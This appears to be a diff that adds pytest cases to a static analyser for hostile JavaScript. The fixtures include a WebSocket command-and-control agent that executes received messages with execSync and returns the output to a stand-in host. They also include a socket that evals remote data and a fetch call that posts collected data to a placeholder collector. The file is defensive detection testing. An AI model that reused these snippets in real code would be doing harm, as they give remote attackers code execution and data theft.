@@ -319,3 +319,24 @@ def test_a_helper_that_only_reads_its_own_local_object_leaves_the_callers_alone(
         "fetch('https://collect.example.invalid/in', { method: 'POST', body: JSON.stringify(bag) });\n",
     )
     assert chain(found, Kind.EGRESS) == [(5, "sends it to collect.example.invalid")]  # no flow claimed
+
+
+def test_what_a_websocket_receives_and_the_script_runs_is_run_remote_code(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const WebSocket = require('ws'); const { execSync } = require('child_process');\n"
+        "const ws = new WebSocket('wss://c2.example.invalid/agent');\n"
+        "ws.on('message', (m) => ws.send(execSync(m.toString()).toString()));\n"
+        "const other = new WebSocket('wss://c3.example.invalid/x');\n"
+        "other.onmessage = (e) => { eval(e.data); };\n",
+    )
+    assert {c.detail for c in found if c.kind is Kind.EXEC_FETCHED} == {"c2.example.invalid", "c3.example.invalid"}
+
+
+def test_a_websocket_that_only_logs_what_it_receives_is_no_finding(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const ws = new WebSocket('wss://api.example.invalid/realtime');\n"
+        "ws.onmessage = (e) => console.log(JSON.parse(e.data));\n",
+    )
+    assert found == []
